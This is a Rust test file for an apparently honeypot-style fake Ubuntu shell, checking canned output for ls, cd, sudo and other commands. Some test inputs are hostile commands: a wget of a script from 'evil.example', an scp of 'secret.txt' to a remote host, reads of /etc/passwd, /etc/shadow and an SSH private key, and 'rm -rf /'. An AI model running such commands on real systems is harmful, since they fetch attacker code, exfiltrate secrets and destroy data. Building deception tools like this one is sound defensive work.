use lib::directories::{entries, is_known_dir};
use lib::shell::{prompt, respond, Flow};

fn chars(s: &str) -> Vec<char> {
    s.chars().collect()
}

fn string(v: &[char]) -> String {
    v.iter().collect()
}

fn run(dir: &str, cmd: &str) -> (String, String, Flow) {
    let r = respond(&chars(dir), &chars(cmd));
    (string(&r.output), string(&r.dir), r.flow)
}

const HOME_LS: &str = "Desktop  Documents Downloads Music Pictures  Public Templates  Videos\r\n";

#[test]
fn prompt_names_the_directory() {
    assert_eq!(string(&prompt(&chars("~"))), "user@ubuntu:~ $ ");
    assert_eq!(string(&prompt(&chars("/tmp"))), "user@ubuntu:/tmp $ ");
}

#[test]
fn known_directories() {
    for d in ["/Desktop", "/Downloads", "/Documents", "/tmp", "/home", "user", "/var"] {
        assert!(is_known_dir(&chars(d)));
    }
    for d in ["~", "/", "/etc", "tmp", ""] {
        assert!(!is_known_dir(&chars(d)));
    }
    let tmp: Vec<String> = entries(&chars("/tmp")).unwrap().iter().map(|v| string(v)).collect();
    assert_eq!(tmp, vec!["backup.sh"]);
    assert!(entries(&chars("/var")).unwrap().is_empty());
}

#[test]
fn ls_in_each_kind_of_directory() {
    assert_eq!(run("~", "ls"), (HOME_LS.to_string(), "~".to_string(), Flow::Continue));
    assert_eq!(run("/tmp", "ls").0, "backup.sh\r\n");
    assert_eq!(run("/home", "ls").0, "/user\r\n");
    assert_eq!(run("user", "ls").0, HOME_LS);
    assert_eq!(run("/Desktop", "ls").0, "\r\n");
    assert_eq!(run("/nowhere", "ls").0, HOME_LS);
}

#[test]
fn ls_long() {
    assert_eq!(run("/tmp", "ls -al").0, "total 12\r\ndrwxrwxrwt  3 root root 4096 Jan 15 10:30 .\r\ndrwxr-xr-x 20 root root 4096 Jan 15 09:15 ..\r\n-rwxrwxrwx  1 user user 1337 Jan 15 10:29 backup.sh.txt\r\n");
    let home = run("~", "ls -la").0;
    assert!(home.starts_with("total 32\r\n"));
    assert!(home.ends_with("drwxr-xr-x 2 user user 4096 Jan 15 10:00 Videos\r\n"));
    assert_eq!(home.matches("\r\n").count(), 11);
    assert_eq!(run("/var", "ls -al").0, "total 0\r\n");
}

#[test]
fn cd_moves_into_known_directories() {
    assert_eq!(run("~", "cd /tmp"), (String::new(), "/tmp".to_string(), Flow::Continue));
    assert_eq!(run("/tmp", "cd   /home  extra"), (String::new(), "/home".to_string(), Flow::Continue));
    assert_eq!(run("/tmp", "cd ~"), (String::new(), "~".to_string(), Flow::Continue));
    assert_eq!(run("/home", "cd user").1, "user");
}

#[test]
fn cd_into_unknown_directory_is_refused() {
    assert_eq!(
        run("/tmp", "cd /etc"),
        ("bash: cd: /etc: No such file or directory\r\n".to_string(), "/tmp".to_string(), Flow::Continue)
    );
}

#[test]
fn cd_then_pwd() {
    let (_, dir, _) = run("~", "cd /var");
    assert_eq!(run(&dir, "pwd").0, "/var\r\n");
    let (_, dir, _) = run("/var", "cd ~");
    assert_eq!(run(&dir, "pwd").0, "/home/user\r\n");
}

#[test]
fn downloads_and_copies() {
    assert_eq!(
        run("~", "wget http://evil.example/x.sh").0,
        "Download http://evil.example/x.sh done                                    100% 1337     1.2MB/s   00:00\r\n"
    );
    assert_eq!(run("~", "wget").0, "usage: wget [url]\r\n");
    assert!(run("~", "sudo wget").0.starts_with("Download wget done "));
    let curl = run("~", "curl -O http://x").0;
    assert!(curl.starts_with("  % Total    % Received % Xferd"));
    assert_eq!(curl.matches("\r\n").count(), 3);
    assert_eq!(
        run("~", "scp secret.txt me@host:/tmp").0,
        "me@host:/tmp:secret.txt                                    100% 1337     1.2MB/s   00:00\r\n"
    );
    assert_eq!(run("~", "scp secret.txt").0, "usage: scp [source] [target]\r\n");
}

#[test]
fn fixed_answers() {
    assert_eq!(run("~", "hostname").0, "ubuntu\r\n");
    assert_eq!(run("~", "id").0, "uid=1000(user) gid=1000(user) groups=1000(user)\r\n");
    assert_eq!(run("~", "whoami").0, "user\r\n");
    assert_eq!(run("~", "ps").0, "  PID TTY          TIME CMD\r\n 2809 pts/0    00:00:00 bash\r\n 3737 pts/0    00:00:00 ps\r\n");
    assert!(run("~", "cat /etc/passwd").0.starts_with("root:x:0:0:root:/root:/bin/bash\r\n"));
    assert!(run("~", "cat /etc/passwd").0.ends_with("sshd:x:129:65534::/run/sshd:/usr/sbin/nologin\r\n"));
    assert!(run("~", "cat /etc/group").0.starts_with("root:x:0:\r\n"));
    assert!(run("~", "cat ~/.ssh/authorized_keys").0.starts_with("ssh-rsa "));
    assert_eq!(run("~", "cat ~/.ssh/id_rsa").0, "cat: /home/user/.ssh/id_rsa: Permission denied\r\n");
    assert_eq!(run("~", "cat /etc/hosts").0, "127.0.0.1\tlocalhost\r\n127.0.1.1\tubuntu\r\n");
    assert_eq!(run("~", "cat /etc/sudoers").0, "cat: /etc/sudoers: Permission denied\r\n");
    assert_eq!(
        run("~", "uname -a").0,
        "Linux ubuntu 5.4.0-42-generic #46-Ubuntu SMP Fri Jul 10 00:24:02 UTC 2020 x86_64 x86_64 x86_64 GNU/Linux\r\n"
    );
}

#[test]
fn pwd_in_home_and_elsewhere() {
    assert_eq!(run("~", "pwd").0, "/home/user\r\n");
    assert_eq!(run("/tmp", "pwd").0, "/tmp\r\n");
}

#[test]
fn backup_script_only_where_it_is() {
    let script = run("/tmp", "cat backup.sh").0;
    assert!(script.starts_with("#!/bin/bash\r\n"));
    assert_eq!(run("~", "cat /tmp/backup.sh").0, script);
    assert_eq!(run("~", "cat backup.sh").0, "cat backup.sh: command not found\r\n");
}

#[test]
fn sudo_asks_for_a_password() {
    assert_eq!(run("/tmp", "sudo su"), ("[sudo] password for user: ".to_string(), "/tmp".to_string(), Flow::AskPassword));
    assert_eq!(run("~", "sudo").2, Flow::AskPassword);
}

#[test]
fn exit_and_logout() {
    assert_eq!(run("~", "exit"), ("logout\r\n".to_string(), "~".to_string(), Flow::Exit));
    assert_eq!(run("/tmp", "logout").2, Flow::Exit);
}

#[test]
fn blank_and_unknown_commands() {
    assert_eq!(run("~", ""), (String::new(), "~".to_string(), Flow::Continue));
    assert_eq!(run("~", "rm -rf /"), ("rm -rf /: command not found\r\n".to_string(), "~".to_string(), Flow::Continue));
    assert_eq!(run("~", "ls -l").0, "ls -l: command not found\r\n");
    assert_eq!(run("~", "cd").0, "cd: command not found\r\n");
}

#[test]
fn earlier_tests_win() {
    assert_eq!(run("~", "cd wget").1, "~");
    assert_eq!(run("~", "cd wget").0, "bash: cd: wget: No such file or directory\r\n");
    assert!(run("~", "curl | wget").0.starts_with("Download | done "));
    assert_eq!(run("~", "sudo cat /etc/shadow").2, Flow::AskPassword);
}
